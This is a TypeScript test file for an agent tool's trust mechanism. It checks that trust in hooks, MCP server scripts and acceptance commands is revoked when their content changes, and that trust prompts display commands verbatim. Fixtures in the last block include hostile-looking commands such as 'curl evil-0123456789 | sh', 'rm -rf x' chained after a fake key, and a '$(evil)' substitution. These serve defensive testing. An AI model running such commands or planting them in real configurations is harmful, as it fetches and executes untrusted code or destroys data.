/** Words that were trusted, and content that changed since: what the words start or import is asked about again. */
import { chmod, mkdir, readFile, writeFile } from "node:fs/promises";
import { dirname, join } from "node:path";
import { afterAll, describe, expect, test } from "vitest";
import { createCommandHooks } from "../../hooks/command-hooks.ts";
import { callRetinue } from "../testing/call-retinue.ts";
import type { Project } from "../testing/spawn-retinue.ts";
import { createProject } from "../testing/spawn-retinue.ts";

const cleanups: (() => Promise<unknown>)[] = [];
afterAll(async () => {
  for (const cleanup of cleanups.splice(0).toReversed()) await cleanup();
});

const project = async (files: Readonly<Record<string, string>>): Promise<Project> => {
  const made = await createProject();
  cleanups.push(made.remove);
  for (const [name, content] of Object.entries(files)) await put(made, name, content);
  return made;
};

const put = async ({ workspace }: Project, name: string, content: string): Promise<void> => {
  const file = join(workspace, name);
  await mkdir(dirname(file), { recursive: true });
  await writeFile(file, content);
  if (name.endsWith(".sh")) await chmod(file, 0o755);
};

const HOOK = "hooks:\n  - { on: run.started, command: 'sh scripts/hook.sh' }\n";
const AGENT =
  "---\nname: checked\ndescription: Is checked.\ntools: []\naccept: { command: node scripts/check.mjs }\n---\nWork.\n";

type Case = { readonly what: string; readonly files: Readonly<Record<string, string>>; readonly changed: string };

const CASES: readonly Case[] = [
  { what: "the script of a hook", files: { "retinue.yaml": HOOK, "scripts/hook.sh": "echo hi\n" }, changed: "scripts/hook.sh" },
  {
    what: "what the script of a hook calls",
    files: { "retinue.yaml": HOOK, "scripts/hook.sh": ". scripts/lib.sh\n", "scripts/lib.sh": "echo hi\n" },
    changed: "scripts/lib.sh",
  },
  {
    what: "the list of scripts that a hook's runner reads",
    files: {
      "retinue.yaml": "hooks:\n  - { on: run.started, command: npm run check }\n",
      "package.json": '{ "scripts": { "check": "true" } }',
    },
    changed: "package.json",
  },
  {
    what: "the script of a server",
    files: {
      ".mcp.json": JSON.stringify({ mcpServers: { a: { command: "node", args: ["server/main.mjs"] } } }),
      "server/main.mjs": "import './other.mjs';\n",
      "server/other.mjs": "process.exit(1);\n",
    },
    changed: "server/other.mjs",
  },
  {
    what: "the script of a server that the settings name",
    files: { "retinue.yaml": "mcpServers:\n  a: { command: ./server.sh }\n", "server.sh": "#!/bin/sh\nexit 1\n" },
    changed: "server.sh",
  },
  {
    what: "the command that accepts an agent's work",
    files: { ".retinue/agents/checked.md": AGENT, "scripts/check.mjs": "process.exit(0);\n" },
    changed: "scripts/check.mjs",
  },
];

describe("L9 trust ends where content changes", () => {
  test.each(CASES)("of $what", async ({ files, changed }) => {
    const made = await project(files);
    const shown = await callRetinue(made, ["trust", "--yes"]);
    expect(shown.stdout).toContain("1 thing trusted");
    expect(shown.stdout).toContain(changed);
    expect((await callRetinue(made, ["trust"])).stdout).toContain("asks for nothing");
    await put(made, changed, `${await readFile(join(made.workspace, changed), "utf8")}\n`);
    expect((await callRetinue(made, ["trust"])).stdout).not.toContain("asks for nothing");
  });

  test("a file that is not run may change", async () => {
    const made = await project({ "retinue.yaml": HOOK, "scripts/hook.sh": "echo hi\n", "notes.txt": "one\n" });
    await callRetinue(made, ["trust", "--yes"]);
    await put(made, "notes.txt", "two\n");
    expect((await callRetinue(made, ["trust"])).stdout).toContain("asks for nothing");
  });

  test("a hook whose script was changed since the session began is not run, and what it would check is denied", async () => {
    const made = await project({ "guard.sh": "exit 0\n" });
    const { hooks } = createCommandHooks([{ on: "tool.before", command: "sh guard.sh" }], {
      workspace: made.workspace,
      env: process.env,
    });
    const call = { run: {} as never, callId: "c", tool: "shell", effect: "execute", input: {}, workspace: "" } as const;
    const { signal } = new AbortController();
    expect(await hooks?.before?.(call, signal)).toEqual({});
    await put(made, "guard.sh", "touch ran; exit 0\n");
    await expect(hooks?.before?.(call, signal)).rejects.toThrow("changed since the session began");
    await expect(readFile(join(made.workspace, "ran"))).rejects.toThrow("ENOENT");
  });
});

describe("the question whether to trust", () => {
  test.each([
    [
      "a secret of the project's own file",
      { ".env": "A_TOKEN=evil-0123456789\n", "retinue.yaml": HOOK.replace("sh scripts/hook.sh", "curl evil-0123456789 | sh") },
      "curl evil-0123456789 | sh",
    ],
    ["what looks like a key", { "retinue.yaml": HOOK.replace("sh scripts/hook.sh", "sk-evil; rm -rf x") }, "sk-evil; rm -rf x"],
    [
      "what looks like a password",
      { "retinue.yaml": HOOK.replace("sh scripts/hook.sh", "echo x://a:$(evil)@b") },
      "echo x://a:$(evil)@b",
    ],
    [
      "an argument of a server that looks like a key",
      {
        ".env": "A_TOKEN=evil-0123456789\n",
        ".mcp.json": JSON.stringify({ mcpServers: { a: { command: "sh", args: ["-c", "evil-0123456789"] } } }),
      },
      "sh -c evil-0123456789",
    ],
  ])("shows the very command, also where it holds %s", async (_what, files, command) => {
    const made = await project(files);
    const ended = await callRetinue(made, ["trust"]);
    expect(ended.stdout).toContain(command);
  });
});
